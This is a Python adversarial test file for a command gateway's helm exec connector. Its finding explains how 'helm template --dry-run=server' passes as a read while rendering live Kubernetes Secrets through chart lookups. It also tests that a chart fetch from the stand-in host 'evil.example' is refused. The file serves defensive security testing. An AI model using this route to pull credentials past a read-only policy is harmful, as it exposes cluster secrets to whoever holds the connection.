"""Round 21c: a promises-only attack on the connectors (exec, http, MCP) and masking.

Each finding is a strict xfail through a real door (`@finding`); attacks that held are
ordinary tests.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from tests.adversarial.harness import finding
from tests.conftest import Harness
from tests.connectors.support import harness_with

# ── helm: a template rendered against the live cluster ─────────────────────────
RECORDER = """#!/bin/sh
printf '%s\\n' "$@" >> "$RECORD"
"""


@pytest.fixture
async def helm(tmp_path: Path) -> AsyncIterator[Harness]:
    """The REST door over an exec connection whose `helm` only records its argv."""
    program = tmp_path / "bin" / "helm"
    program.parent.mkdir()
    program.write_text(RECORDER)
    program.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    settings = {
        "type": "exec",
        "programs": [str(program)],
        "working_dir": str(work),
        "env": {"RECORD": str(tmp_path / "ran"), "HOME": str(tmp_path)},
        "timeout_seconds": 20,
        "rule_sets": ["helm"],
    }
    h = await harness_with(tmp_path, {"deploy": settings})
    try:
        yield h
    finally:
        await h.client.aclose()
        await h.gateway.close()


async def _run(h: Harness, connection: str, argv: list[str]) -> httpx.Response:
    body = {"connection": connection, "argv": argv}
    return await h.client.post("/v1/actions", headers=h.auth("claims-bot"), json=body)


@finding(1, "helm template --dry-run=server renders with live lookups (Secrets) as a read")
@pytest.mark.parametrize(
    "argv",
    [
        ["template", "db", "bitnami/postgresql", "--dry-run=server"],
        ["template", "db", "./chart", "--dry-run=server", "-s", "templates/secrets.yaml"],
    ],
)
async def test_helm_template_against_the_cluster_is_not_a_read(
    helm: Harness, tmp_path: Path, argv: list[str]
) -> None:
    """docs/exec.md: helm `get values/manifest` are `export` because rendered manifests
    carry the release's Secrets; `template` is a read because it renders offline. Since
    helm 3.13, `template --dry-run=server` connects to the cluster with the gateway's
    credentials and lets the chart's `lookup` read live objects: charts that keep a
    generated password stable (bitnami's `common.secrets.passwords.manage`, used by
    postgresql, redis, mariadb, …) look up the existing Secret and render its value
    into the manifest they print. `--dry-run` is on `template`'s allow-list with any
    value, so this runs at once as a read under the demo policy."""
    response = await _run(helm, "deploy", ["helm", *argv])
    ran = tmp_path / "ran"
    assert response.status_code != 200 and not ran.exists(), (
        f"ran as a read ({ran.read_text() if ran.exists() else ''!r}): {response.text[:300]}"
    )


async def test_held_helm_template_offline_is_a_read(helm: Harness, tmp_path: Path) -> None:
    offline = await _run(helm, "deploy", ["helm", "template", "db", "./chart", "--dry-run"])
    assert offline.status_code == 200, offline.text
    fetched = await _run(helm, "deploy", ["helm", "template", "db", "oci://evil.example/c"])
    assert fetched.status_code == 403, fetched.text
